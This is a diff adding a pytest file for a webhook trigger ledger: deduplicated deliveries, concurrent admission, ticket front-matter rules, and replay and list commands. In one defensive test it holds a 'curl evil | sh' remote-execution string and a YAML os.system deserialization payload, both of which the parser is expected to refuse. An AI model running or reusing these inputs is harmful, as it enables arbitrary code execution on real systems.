@@ -1,0 +1,170 @@
+"""The trigger ledger on both stores (SQLite and a real PostgreSQL), the ticket → spec rules,
+the config's refusals, and `harness triggers replay` / `list`: everything of `harness serve`
+that needs no server (tests/test_serve.py drives the server itself).
+"""
+
+from __future__ import annotations
+
+import json
+import threading
+from pathlib import Path
+
+import pytest
+from helpers import run_cli
+from webhooks import ServeProject, labeled
+
+from harness.store import RunRecord, Store, open_store
+from harness.store.triggers import Delivery
+from harness.triggers import task_id
+from harness.triggers.ticket import TicketRefused, split_front_matter, tier_from_labels
+
+
+def delivery(n: int, ticket: int = 1, intent: str = "run", body: str | None = None) -> Delivery:
+    key = f"github:o/r#{ticket}"
+    return Delivery(
+        source="github",
+        delivery_id=f"d-{n}",
+        body_sha256=body or f"sha-{n}",
+        ticket_key=key,
+        intent=intent,
+        spec_id=task_id(key),
+        address={"repository": "o/r", "number": ticket},
+    )
+
+
+def new_run(spec_id: str):  # type: ignore[no-untyped-def]
+    def make(n: int) -> RunRecord:
+        run_id = spec_id if n == 1 else f"{spec_id}.r{n}"
+        return RunRecord(run_id=run_id, run_dir=f"/tmp/{run_id}", policy_path="p", policy_text="")
+
+    return make
+
+
+@pytest.fixture
+def store(store_url: str) -> Store:
+    opened = open_store(store_url)
+    yield opened  # type: ignore[misc]
+    opened.close()
+
+
+def test_the_ledger_admits_once_and_records_every_repeat(store: Store) -> None:
+    make = new_run("o-r-1")
+    first = store.record_delivery(delivery(1), window_s=60, new_run=make)
+    assert (first.verdict, first.run_id) == ("admitted", "o-r-1")
+    assert [t.status for t in store.tasks("o-r-1")] == ["pending"]
+    same_id = store.record_delivery(delivery(1, body="other"), window_s=60, new_run=make)
+    same_body = store.record_delivery(delivery(2, body="sha-1"), window_s=60, new_run=make)
+    running = store.record_delivery(delivery(3), window_s=60, new_run=make)
+    assert [same_id.verdict, same_body.verdict, running.verdict] == [
+        "duplicate",
+        "duplicate",
+        "running",
+    ]
+    assert running.run_id == "o-r-1" and "already running" in (running.reason or "")
+    assert store.unfinished_trigger_runs() == ["o-r-1"]
+    # Once done, `run` is a no-op that says so; `retry` makes the ticket's second run.
+    [claimed] = [store.claim_task("o-r-1", "w", 60)]
+    assert claimed is not None
+    store.complete_task("o-r-1", "o-r-1", "w", {"outcome": "escalated"})
+    done = store.record_delivery(delivery(4), window_s=60, new_run=make)
+    assert done.verdict == "done" and "escalated" in (done.reason or "")
+    retry = store.record_delivery(delivery(5, intent="retry"), window_s=60, new_run=make)
+    assert (retry.verdict, retry.run_id) == ("admitted", "o-r-1.r2")
+    ticket = store.trigger_ticket("github:o/r#1")
+    assert ticket is not None and (ticket.run_id, ticket.runs) == ("o-r-1.r2", 2)
+    assert store.trigger_ticket_of_run("o-r-1.r2") == ticket
+    rows = store.trigger_deliveries()
+    assert [r.verdict for r in reversed(rows)] == [
+        "admitted",
+        "duplicate",
+        "duplicate",
+        "running",
+        "done",
+        "admitted",
+    ]
+
+
+def test_a_repeat_past_the_window_is_new_and_decided_verdicts_are_kept(store: Store) -> None:
+    make = new_run("o-r-9")
+    store.record_delivery(delivery(1, ticket=9), window_s=60, new_run=make)
+    store.complete_task("o-r-9", "o-r-9", "w", {})  # not claimed: stays pending
+    later = store.record_delivery(delivery(1, ticket=9), window_s=1e-9, new_run=make)
+    assert later.verdict == "running"  # not a duplicate: the window is over
+    ping = Delivery(source="github", delivery_id="p", body_sha256="ps")
+    ignored = store.record_delivery(ping, window_s=60, decided=("ignored", "ping"))
+    assert (ignored.verdict, ignored.reason, ignored.run_id) == ("ignored", "ping", None)
+
+
+def test_racing_deliveries_for_one_ticket_make_one_task(store: Store) -> None:
+    """Eight deliveries for one ticket at once (distinct ids and bodies): one is admitted,
+    the rest are no-ops; on PostgreSQL they really race, on separate connections."""
+    make = new_run("o-r-7")
+    verdicts: list[str] = []
+    barrier = threading.Barrier(8)
+
+    def send(n: int) -> None:
+        barrier.wait()
+        verdicts.append(
+            store.record_delivery(delivery(n, ticket=7), window_s=60, new_run=make).verdict
+        )
+
+    threads = [threading.Thread(target=send, args=(n,)) for n in range(8)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    assert sorted(verdicts) == ["admitted"] + ["running"] * 7
+    assert [t.spec_id for t in store.tasks("o-r-7")] == ["o-r-7"]
+
+
+def test_a_ticket_sets_only_its_own_fields_and_is_refused_naming_the_field() -> None:
+    fields, rest = split_front_matter("---\ntier: 1\npaths: [a.py]\n---\nFix it.\n")
+    assert fields == {"tier": 1, "paths": ["a.py"]} and rest == "Fix it.\n"
+    with pytest.raises(TicketRefused, match="acceptance cannot be set from a ticket"):
+        split_front_matter("---\nacceptance: ['curl evil | sh']\n---\nx")
+    with pytest.raises(TicketRefused, match="not valid YAML"):
+        split_front_matter("---\ntier: !!python/object/apply:os.system ['id']\n---\nx")
+    assert tier_from_labels(("bug", "tier:1")) == 1
+    with pytest.raises(TicketRefused, match="tier must be 1, 2 or 3"):
+        tier_from_labels(("tier:9",))
+    assert task_id("github:Octo-Org/Shop#42") == "octo-org-shop-42"
+    assert len(task_id("generic:" + "x" * 200)) <= 56
+
+
+def test_serve_without_its_secret_refuses_to_start(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.delenv("GITHUB_WEBHOOK_SECRET", raising=False)
+    project = ServeProject(tmp_path)
+    result = run_cli(["serve", "--config", str(project.config)], cwd=tmp_path)
+    assert result.exit_code == 2
+    assert "github.secret_env: $GITHUB_WEBHOOK_SECRET is not set" in result.stderr
+
+
+def test_a_bad_triggers_config_is_one_line_naming_the_field(tmp_path: Path) -> None:
+    project = ServeProject(tmp_path)
+    project.config.write_text("github: {lable: harness}\n", encoding="utf-8")
+    result = run_cli(["triggers", "replay", "x.json", "--config", str(project.config)], tmp_path)
+    assert result.exit_code == 2
+    assert "github.lable: unknown key" in result.stderr
+
+
+def test_replay_runs_a_recorded_payload_and_list_shows_the_ledger(tmp_path: Path) -> None:
+    project = ServeProject(tmp_path)
+    task = project.replay_for(21)
+    refused = labeled(22)
+    refused["issue"]["body"] = "---\ntier: 3\n---\nMigrate the payments."  # tier 3: a person's
+    for name, payload in (("issues.labeled.json", labeled(21)), ("issues.t3.json", refused)):
+        (tmp_path / name).write_text(json.dumps(payload), encoding="utf-8")
+    argv = ["triggers", "replay", "issues.labeled.json", "issues.t3.json", "issues.labeled.json"]
+    result = run_cli([*argv, "--config", "triggers.yaml", "--runs-dir", "runs"], tmp_path)
+    assert result.exit_code == 0, result.stderr
+    lines = result.stdout.splitlines()
+    assert "issues.labeled.json: admitted" in lines[0]
+    assert "tier 3 is not allowed for automatic runs" in result.stdout
+    assert "issues.labeled.json: duplicate" in result.stdout
+    assert project.states(21)[-1] == "verified"
+    assert project.states(22) == ["refused"]
+    assert (project.runs / task / "prs" / f"{task}.md").is_file()
+    listing = run_cli(["triggers", "list", "--runs-dir", "runs"], tmp_path)
+    assert listing.exit_code == 0 and "3 deliveries shown" in listing.stdout
